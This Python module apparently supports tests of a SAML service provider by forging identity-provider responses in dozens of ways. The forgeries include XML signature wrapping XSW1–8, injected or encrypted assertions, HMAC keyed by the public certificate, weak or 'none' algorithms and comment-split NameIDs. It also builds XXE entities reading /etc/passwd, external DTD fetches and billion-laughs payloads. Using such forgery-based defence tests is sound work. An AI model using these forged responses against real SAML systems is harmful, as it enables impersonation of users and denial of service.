"""Forged responses, made from any good one without its provider's key.

Each function takes the good response's root, freely changed, and returns the forged document; or
None where the response has not the part that the attack moves. The forged identity is MALLORY.
"""

from __future__ import annotations

import base64
import copy
import re
from typing import TYPE_CHECKING

import xmlsec
from lxml import etree
from saml_provider import GCM, NAMESPACES, SHA256, pair, pem, sign

from tenantry.identity.connections.saml.certificates import base64_of

if TYPE_CHECKING:
    from collections.abc import Callable

MALLORY = "mallory@evil.test"
DS, SAML, SAMLP = (f"{{{NAMESPACES[prefix]}}}" for prefix in ("ds", "saml", "samlp"))
_EXC = "http://www.w3.org/2001/10/xml-exc-c14n#"


def assertion_of(root):
    return root.find("saml:Assertion", NAMESPACES)


def signature_of(element):
    return element.find("ds:Signature", NAMESPACES)


def forged(element, *, identifier: str | None = "_evil"):
    """A copy of a response or an assertion, without signatures, that names another person."""
    copied = copy.deepcopy(element)
    copied.tail = None
    for signature in list(copied.iter(f"{DS}Signature")):
        signature.getparent().remove(signature)
    for name in ("NameID", "AttributeValue"):
        for value in copied.iter(f"{SAML}{name}"):
            value.text = MALLORY
    if identifier:
        copied.set("ID", identifier)
    return copied


def bare(element):
    """A copy without the element's own signature."""
    copied = copy.deepcopy(element)
    copied.tail = None
    copied.remove(signature_of(copied))
    return copied


def _signed_response(root):
    return signature_of(root) is not None


def _signed_assertion(root):
    assertion = assertion_of(root)
    return assertion is not None and signature_of(assertion) is not None


# XSW 1 to 8, as "On Breaking SAML" (Somorovsky and others, 2012) and SAML Raider number them.
def xsw1(root, identifier):
    """The original response stands in the signature of a forged one."""
    if _signed_response(root):
        evil, signature = forged(root, identifier=identifier), copy.deepcopy(signature_of(root))
        signature.append(bare(root))
        evil.insert(1, signature)
        return evil
    return None


def xsw2(root, identifier):
    """The original response stands before its signature, in a forged one."""
    if _signed_response(root):
        evil, signature = forged(root, identifier=identifier), copy.deepcopy(signature_of(root))
        evil.insert(1, bare(root))
        evil.insert(2, signature)
        return evil
    return None


def xsw3(root, identifier):
    """A forged assertion stands before the original."""
    if _signed_assertion(root):
        assertion = assertion_of(root)
        assertion.addprevious(forged(assertion, identifier=identifier))
        return root
    return None


def xsw4(root, identifier):
    """The original assertion stands in a forged one."""
    if _signed_assertion(root):
        assertion = assertion_of(root)
        evil = forged(assertion, identifier=identifier)
        root.replace(assertion, evil)
        evil.append(assertion)
        return root
    return None


def xsw5(root, identifier):
    """A forged assertion has the signature; the original follows, without."""
    if _signed_assertion(root):
        assertion = assertion_of(root)
        evil, original = forged(assertion, identifier=identifier), bare(assertion)
        evil.insert(1, copy.deepcopy(signature_of(assertion)))
        root.replace(assertion, evil)
        root.append(original)
        return root
    return None


def xsw6(root, identifier):
    """A forged assertion has the signature, and in that the original."""
    if _signed_assertion(root):
        assertion = assertion_of(root)
        evil, signature = forged(assertion, identifier=identifier), signature_of(assertion)
        original = bare(assertion)
        signature.append(original)
        evil.insert(1, signature)
        root.replace(assertion, evil)
        return root
    return None


def xsw7(root, identifier):
    """A forged assertion stands in Extensions, before the original."""
    if _signed_assertion(root):
        extensions = etree.Element(f"{SAMLP}Extensions")
        extensions.append(forged(assertion_of(root), identifier=identifier))
        root.insert(1, extensions)
        return root
    return None


def xsw8(root, identifier):
    """A forged assertion has the signature, and in an Object of that the original."""
    if _signed_assertion(root):
        assertion = assertion_of(root)
        evil, signature = forged(assertion, identifier=identifier), signature_of(assertion)
        original = bare(assertion)
        etree.SubElement(signature, f"{DS}Object").append(original)
        evil.insert(1, signature)
        root.replace(assertion, evil)
        return root
    return None


WRAPPINGS = (xsw1, xsw2, xsw3, xsw4, xsw5, xsw6, xsw7, xsw8)


# Assertions beside the one that is signed (2), signatures over something else (3).
def unsigned_assertion_after(root):
    if (assertion := assertion_of(root)) is not None:
        assertion.addnext(forged(assertion))
        return root
    return None


def unsigned_assertion_only(root):
    if (assertion := assertion_of(root)) is not None:
        root.replace(assertion, forged(assertion, identifier=None))
        return root
    return None


def encrypted_assertion_first(root):
    if (assertion := assertion_of(root)) is not None:
        plain = etree.tostring(forged(assertion))
        assertion.addprevious(GCM.encrypt(plain, pair("sp")))
        return root
    return None


def encrypted_assertion_instead(root):
    if (assertion := assertion_of(root)) is not None:
        plain = etree.tostring(forged(assertion, identifier=None))
        root.replace(assertion, GCM.encrypt(plain, pair("sp")))
        if (signature := signature_of(root)) is not None:
            root.remove(signature)
        return root
    return None


def assertion_in_advice(root):
    if _signed_assertion(root):
        assertion = assertion_of(root)
        evil = forged(assertion)
        etree.SubElement(evil, f"{SAML}Advice").append(assertion)
        root.append(evil)
        return root
    return None


def signature_over_something_else(root):
    """The signature of another document of the provider: its metadata, say."""
    metadata = etree.fromstring('<md xmlns="urn:x" ID="_metadata"><Issuer/></md>')
    sign(metadata, pem(pair("idp").private_key))
    evil = forged(root)
    evil.insert(1, copy.deepcopy(signature_of(metadata)))
    etree.SubElement(evil, f"{SAMLP}Extensions").append(metadata)
    return evil


def signature_of_the_original(root):
    """A forged response has the ID and the signature of the original."""
    evil = forged(root, identifier=root.get("ID"))
    if (signature := signature_of(root)) is not None and assertion_of(root) is not None:
        evil.insert(1, signature)
        return evil
    return None


# IDs (4) and references (4, 5).
def _same_id(name: str) -> Callable:
    def attack(root):
        signed = root if _signed_response(root) else assertion_of(root)
        if signed is None:
            return None
        extensions = etree.Element(f"{SAMLP}Extensions")
        etree.SubElement(extensions, "x").set(name, signed.get("ID"))
        root.insert(1, extensions)
        return root

    return attack


def _on_signature(change: Callable) -> Callable:
    def attack(root):
        signed = root if _signed_response(root) else assertion_of(root)
        if signed is None or (signature := signature_of(signed)) is None:
            return None
        change(signed, signature)
        return root

    return attack


def _reference(signature):
    return signature.find("ds:SignedInfo/ds:Reference", NAMESPACES)


def _algorithm(path: str, algorithm: str) -> Callable:
    def change(_, signature):
        signature.find(path, NAMESPACES).set("Algorithm", algorithm)

    return _on_signature(change)


def _uri(value: str | None) -> Callable:
    def change(signed, signature):
        reference = _reference(signature)
        if value is None:
            del reference.attrib["URI"]
        else:
            reference.set("URI", value.format(signed.get("ID")))

    return _on_signature(change)


def _twice(path: str) -> Callable:
    def change(_, signature):
        one = signature.find(path, NAMESPACES) if path else signature
        one.addnext(copy.deepcopy(one))

    return _on_signature(change)


def _comment(path: str, marked: str) -> Callable:
    def change(_, signature):
        value = signature.find(path, NAMESPACES)
        text = value.text
        value.text = text[:8]
        node = etree.Comment(marked) if marked != "pi" else etree.ProcessingInstruction("x")
        node.tail = text[8:]
        value.append(node)

    return _on_signature(change)


def _object(_, signature):
    etree.SubElement(etree.SubElement(signature, f"{DS}Object"), "x")


def _transform(algorithm: str, inner: str = "") -> Callable:
    def change(_, signature):
        transforms = _reference(signature).find("ds:Transforms", NAMESPACES)
        transform = etree.SubElement(transforms, f"{DS}Transform", Algorithm=algorithm)
        if inner:
            transform.append(etree.fromstring(inner))

    return _on_signature(change)


def _no_transforms(_, signature):
    reference = _reference(signature)
    reference.remove(reference.find("ds:Transforms", NAMESPACES))


def signed_by_another(root):
    """A stranger signs a forged response and sends its certificate along (9)."""
    evil = forged(root, identifier=root.get("ID"))
    stranger = pair("stranger")
    return sign(evil, pem(stranger.private_key), certificate=base64_of(stranger.certificate))


def hmac_of_the_certificate(root):
    """HMAC, keyed by the public certificate (10)."""
    evil = forged(root, identifier=root.get("ID"))
    method = "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256"
    blank = etree.fromstring(
        f'<ds:Signature xmlns:ds="{NAMESPACES["ds"]}"><ds:SignedInfo>'
        f'<ds:CanonicalizationMethod Algorithm="{_EXC}"/><ds:SignatureMethod Algorithm="{method}"/>'
        f'<ds:Reference URI="#{evil.get("ID")}"><ds:Transforms>'
        f'<ds:Transform Algorithm="{NAMESPACES["ds"]}enveloped-signature"/>'
        f'<ds:Transform Algorithm="{_EXC}"/></ds:Transforms><ds:DigestMethod Algorithm="{SHA256}"/>'
        "<ds:DigestValue/></ds:Reference></ds:SignedInfo><ds:SignatureValue/></ds:Signature>"
    )
    evil.insert(1, blank)
    xmlsec.tree.add_ids(evil, ["ID"])
    context = xmlsec.SignatureContext()
    certificate = base64.b64decode(base64_of(pair("idp").certificate))
    context.key = xmlsec.Key.from_binary_data(xmlsec.KeyData.HMAC, certificate)
    context.sign(blank)
    return evil


# Names that are cut or joined (6), and signed text that is changed.
def changed(root):
    for name_id in root.iter(f"{SAML}NameID"):
        name_id.text = MALLORY
        return root
    for value in root.iter("{http://www.w3.org/2001/04/xmlenc#}CipherValue"):
        value.text = "AAAA" + value.text[4:]
        return root
    return None


def _divided(marked: str) -> Callable:
    def attack(root):
        for name_id in root.iter(f"{SAML}NameID"):
            text = name_id.text
            name_id.text = text[:-4]
            node = etree.Comment("") if marked == "comment" else etree.ProcessingInstruction("x")
            node.tail = text[-4:]
            name_id.append(node)
            return root
        return None

    return attack


TREES: dict[str, Callable] = {
    **{
        f"{wrap.__name__}, ID {kind}": lambda root, wrap=wrap, kind=kind: wrap(
            root, "_evil" if kind == "of its own" else None
        )
        for wrap in WRAPPINGS
        for kind in ("of its own", "the same")
    },
    **{
        attack.__name__.replace("_", " "): attack
        for attack in (
            unsigned_assertion_after,
            unsigned_assertion_only,
            encrypted_assertion_first,
            encrypted_assertion_instead,
            assertion_in_advice,
            signature_over_something_else,
            signature_of_the_original,
            signed_by_another,
            hmac_of_the_certificate,
            changed,
        )
    },
    **{
        f"same ID as {name}": _same_id(name)
        for name in ("ID", "Id", "id", "{urn:x}ID", "{http://www.w3.org/XML/1998/namespace}id")
    },
    "reference without URI": _uri(None),
    "reference to all": _uri(""),
    "reference by XPointer": _uri("#xpointer(id('{}'))"),
    "reference by file": _uri("file:///etc/passwd"),
    "reference to another": _uri("#_other"),
    "reference with space": _uri("# {}"),
    "reference with two signs": _uri("##{}"),
    "two references": _twice("ds:SignedInfo/ds:Reference"),
    "two SignedInfo": _twice("ds:SignedInfo"),
    "two values": _twice("ds:SignatureValue"),
    "two digests": _twice("ds:SignedInfo/ds:Reference/ds:DigestValue"),
    "two signatures": _twice(""),
    "object in the signature": _on_signature(_object),
    "comment in the digest": _comment("ds:SignedInfo/ds:Reference/ds:DigestValue", ""),
    "instruction in the digest": _comment("ds:SignedInfo/ds:Reference/ds:DigestValue", "pi"),
    "comment in the value": _comment("ds:SignatureValue", "AAAA"),
    "comment in the name": _divided("comment"),
    "instruction in the name": _divided("instruction"),
    "no transforms": _on_signature(_no_transforms),
    "third transform": _transform(_EXC),
    "transform by XPath": _transform(
        "http://www.w3.org/TR/1999/REC-xpath-19991116",
        f'<ds:XPath xmlns:ds="{NAMESPACES["ds"]}">false()</ds:XPath>',
    ),
    "transform by XSLT": _transform(
        "http://www.w3.org/TR/1999/REC-xslt-19991116",
        '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"/>',
    ),
    **{
        f"{what} {algorithm}": _algorithm(path, algorithm)
        for what, path, algorithms in (
            (
                "signed by",
                "ds:SignedInfo/ds:SignatureMethod",
                (
                    "",
                    "none",
                    f"{NAMESPACES['ds']}rsa-sha1",
                    f"{NAMESPACES['ds']}dsa-sha1",
                    f"{NAMESPACES['ds']}hmac-sha1",
                    "http://www.w3.org/2001/04/xmldsig-more#rsa-md5",
                    "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256",
                    "http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha256",
                ),
            ),
            (
                "digest by",
                "ds:SignedInfo/ds:Reference/ds:DigestMethod",
                (
                    "",
                    f"{NAMESPACES['ds']}sha1",
                    "http://www.w3.org/2001/04/xmldsig-more#md5",
                    "http://www.w3.org/2001/04/xmlenc#sha512",
                ),
            ),
            (
                "canonicalized by",
                "ds:SignedInfo/ds:CanonicalizationMethod",
                (
                    "",
                    "http://www.w3.org/TR/2001/REC-xml-c14n-20010315",
                    f"{_EXC}WithComments",
                    "http://www.w3.org/2010/xml-c14n2",
                ),
            ),
        )
        for algorithm in algorithms
    },
}


# Markup and size (11): texts, not trees.
def _after_declaration(inserted: bytes, *, entity: bytes = b"") -> Callable[[bytes], bytes]:
    def attack(xml: bytes) -> bytes:
        return inserted + re.sub(rb"ann@acme\.test", entity or b"ann@acme.test", xml)

    return attack


LAUGHS = b"<!DOCTYPE r [" + b'<!ENTITY l0 "ha">'
for _level in range(1, 12):
    LAUGHS += b'<!ENTITY l%d "%s">' % (_level, b"&l%d;" % (_level - 1) * 10)
LAUGHS += b"]>"
QUADRATIC = b'<!DOCTYPE r [<!ENTITY a "%s">]>' % (b"a" * 50_000)


def _grown(inner: Callable[[], bytes]) -> Callable[[bytes], bytes]:
    def attack(xml: bytes) -> bytes:
        return xml.replace(b"</samlp:Response>", inner() + b"</samlp:Response>")

    return attack


TEXTS: dict[str, Callable[[bytes], bytes]] = {
    "document type": _after_declaration(b"<!DOCTYPE r>"),
    "entity of a file": _after_declaration(
        b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>', entity=b"&x;"
    ),
    "external document type": _after_declaration(b'<!DOCTYPE r SYSTEM "http://127.0.0.1:1/x.dtd">'),
    "parameter entity": _after_declaration(
        b'<!DOCTYPE r [<!ENTITY % x SYSTEM "http://127.0.0.1:1/x"> %x;]>'
    ),
    "billion laughs": _after_declaration(LAUGHS, entity=b"&l11;"),
    "quadratic entities": _after_declaration(QUADRATIC, entity=b"&a;" * 50_000),
    "entity that is not declared": _after_declaration(b"", entity=b"&x;"),
    "comment before all": _after_declaration(b"<!-- -->"),
    "instruction before all": _after_declaration(b"<?x y?>"),
    "in UTF-16": lambda xml: xml.decode().encode("utf-16"),
    "said to be in UTF-7": _after_declaration(b'<?xml version="1.0" encoding="utf-7"?>'),
    "of XML 1.1": _after_declaration(b'<?xml version="1.1"?>'),
    "100 MB": _grown(lambda: b" " * 100_000_000),
    "10,000 deep": _grown(lambda: b"<a>" * 10_000 + b"</a>" * 10_000),
    "200 deep": _grown(lambda: b"<a>" * 200 + b"</a>" * 200),
    "50,000 elements": _grown(lambda: b"<a/>" * 50_000),
    "20,000 attributes": _grown(
        lambda: b"<a %s/>" % b" ".join(b'a%x=""' % n for n in range(20_000))
    ),
    "10,000 namespaces": _grown(
        lambda: b"<a %s/>" % b" ".join(b'xmlns:a%x="u:%x"' % (n, n) for n in range(10_000))
    ),
    "200 namespaces, nested": _grown(
        lambda: (
            b"".join(b'<a xmlns:a%x="u:%x">' % (n, n) for n in range(25))
            + b"<a %s>" % b" ".join(b'xmlns:b%x="u:%x"' % (n, n) for n in range(200))
            + b"<a/>" * 1500
            + b"</a>" * 26
        )
    ),
    "namespace that cannot be canonicalized": lambda xml: re.sub(
        rb"<(\w+):Conditions", rb'<\1:Conditions xmlns:r="relative" r:a=""', xml
    ),
    "nothing": lambda _: b"",
    "half": lambda xml: xml[: len(xml) // 2],
    "twice": lambda xml: xml * 2,
}


ATTACKS = [*TREES, *TEXTS]


def forge(name: str, xml: bytes) -> bytes | None:
    """Bend a good response by one attack; None where it has nothing to bend."""
    if name in TEXTS:
        bent = TEXTS[name](xml)
        return None if bent == xml else bent
    root = TREES[name](etree.fromstring(xml))
    return None if root is None else etree.tostring(root)
